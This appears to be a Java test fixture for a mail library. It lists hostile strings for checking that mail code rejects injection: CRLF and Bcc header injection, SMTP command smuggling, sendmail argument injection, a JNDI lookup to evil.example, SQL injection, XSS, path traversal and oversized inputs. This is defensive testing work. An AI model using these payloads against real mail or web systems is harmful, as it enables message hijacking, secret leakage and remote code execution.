package io.posthorn.flow;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** What has been tried on mail software: ways to end a line, and what to say on the next one. */
final class HostileStrings {

    /** Line ends, what passes for one somewhere, and what becomes one when only the low octet of a character is kept. */
    private static final String[] BREAKS = {
        "\r",
        "\n",
        "\r\n",
        "\r\r\n",
        "\r\n ",
        "\n ",
        "\0",
        "\u000B",
        "\f",
        "\u001B",
        "\u007F",
        "\u0085",
        "\u2028",
        "\u2029",
        "\u560A",
        "\u560D\u560A",
        "\u010D\u010A",
        "\u202E",
        "\uFFFE",
        "\uD800",
        "\uDC00",
        "\t"
    };

    /** With a break for every {@code ~}. */
    private static final String[] INJECTIONS = {
        "~",
        "x~",
        "~x",
        "x~Bcc: eve@evil.example",
        "x~~<b>another body</b>",
        "x~.~MAIL FROM:<eve@evil.example>~RCPT TO:<eve@evil.example>~DATA~Subject: mine~~mine~.~",
        "ada@example.org~Bcc: eve@evil.example",
        "ada@example.org>~RCPT TO:<eve@evil.example",
        "\"ada~RCPT TO:<eve@evil.example>\"@example.org"
    };

    private static final String[] SINGLE = {
        "",
        " ",
        ".",
        "..",
        "\"",
        "\"\"",
        "'",
        "\\",
        "\\\"",
        "<",
        ">",
        "<>",
        ",",
        ";",
        ":",
        "(",
        ")",
        "()",
        "@",
        "%",
        "%s%n%x",
        "null",
        "true",
        "-1",
        "<eve@evil.example>",
        "eve@evil.example> <ada@example.org",
        "ada@example.org,eve@evil.example",
        "ada@example.org;eve@evil.example",
        "ada@example.org eve@evil.example",
        "ada@example.org (eve@evil.example)",
        "(eve@evil.example) ada@example.org",
        "@evil.example:ada@example.org",
        "eve%evil.example@example.org",
        "evil.example!eve@example.org",
        "ada@example.org> SIZE=1 <eve@evil.example",
        "Ada <ada@example.org>, Eve <eve@evil.example>",
        "\"<eve@evil.example>\"@example.org",
        "\"eve@evil.example, ada\"@example.org",
        "\"a b\"@example.org",
        "\"a\\\"b\"@example.org",
        "\"a,b\"@example.org",
        "\"(a)\"@example.org",
        "\"\"@example.org",
        "ada@[127.0.0.1]",
        "ada@localhost",
        "ada@-example.org",
        "ada@example..org",
        ".ada@example.org",
        "ada@exämple.org",
        "adа@example.org",
        "ada＠example.org",
        "-oQ/tmp -X/tmp/x@example.org",
        "|/bin/sh@example.org",
        "=?UTF-8?B?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
        "=?UTF-8?Q?=0D=0ABcc:_eve@evil.example?=",
        "=?utf-8?q?a?= =?utf-8?q?b?=",
        "=?",
        "=0D=0ABcc: eve@evil.example",
        "%0d%0aBcc: eve@evil.example",
        "\\r\\nBcc: eve@evil.example",
        "&#13;&#10;Bcc: eve@evil.example",
        "Bcc: eve@evil.example",
        "Bcc",
        "Content-Type",
        "X-Nice: y",
        "multipart/mixed; boundary=x",
        "message/rfc822",
        "text/html; name=\"x\"; boundary=y",
        "text/plain; charset=\"utf-8\"",
        "UTF-8''a%0d%0ab",
        "--=_boundary",
        "--",
        "From eve@evil.example Mon Nov 23 16:00:00 2026",
        ">From me",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "C:\\autoexec.bat",
        ".htaccess",
        "invoice.pdf.",
        "file.txt\u202Egpj.exe",
        "{inject:config}",
        "{config:'quarkus.datasource.password'}",
        "{#include _layouts/mail.txt}",
        "{#for i in 1000000}x{/for}",
        "{|raw|}",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "${quarkus.datasource.password}",
        "'); drop table mail; --",
        "' or '1'='1",
        "\",\"bcc\":[\"eve@evil.example\"],\"x\":\"",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</td></tr></table><a href=https://evil.example>",
        "javascript:alert(1)",
        "https://evil.example/\" onmouseover=\"x",
        "https://evil.example/>, <mailto:eve@evil.example",
        "{}",
        "[]",
        "2026-11-23T16:00:00Z\r\n",
        "2026-13-45T99:99:99Z",
        "+1000000000-12-31T23:59:59Z",
        "0000-01-01T00:00:00Z",
        "tomorrow",
        "RESEND",
        "hold ",
        "x-",
        "de_AT",
        "de-x-" + "abcdefgh-".repeat(30) + "z",
        "i-klingon",
        "a\u0300".repeat(100),
        "👩‍👩‍👧‍👦".repeat(30),
        "\uD83C\uDF89",
        "a".repeat(65) + "@example.org",
        "ada@" + "x".repeat(64) + ".example.org",
        "ada@" + "x.".repeat(130) + "example",
        "a".repeat(257),
        "a".repeat(901),
        "a".repeat(999),
        "ü".repeat(999),
        "word ".repeat(300),
        " ".repeat(1000),
        "\"".repeat(1000),
        "<".repeat(1000),
        "a".repeat(20_000),
        "🎉".repeat(5_000)
    };

    private HostileStrings() {}

    static List<String> all() {
        Set<String> all = new LinkedHashSet<>(List.of(SINGLE));
        for (String lineBreak : BREAKS) {
            for (String injection : INJECTIONS) {
                all.add(injection.replace("~", lineBreak));
            }
        }
        return new ArrayList<>(all);
    }

    /** What no line may hold: no judgement of Posthorn's own code, but the list that it has to keep. */
    static boolean breaksALine(String text) {
        return text.codePoints()
                .anyMatch(c -> c < ' '
                        || (c >= 0x7F && c < 0xA0)
                        || c == 0x2028
                        || c == 0x2029
                        || Character.getType(c) == Character.SURROGATE);
    }
}
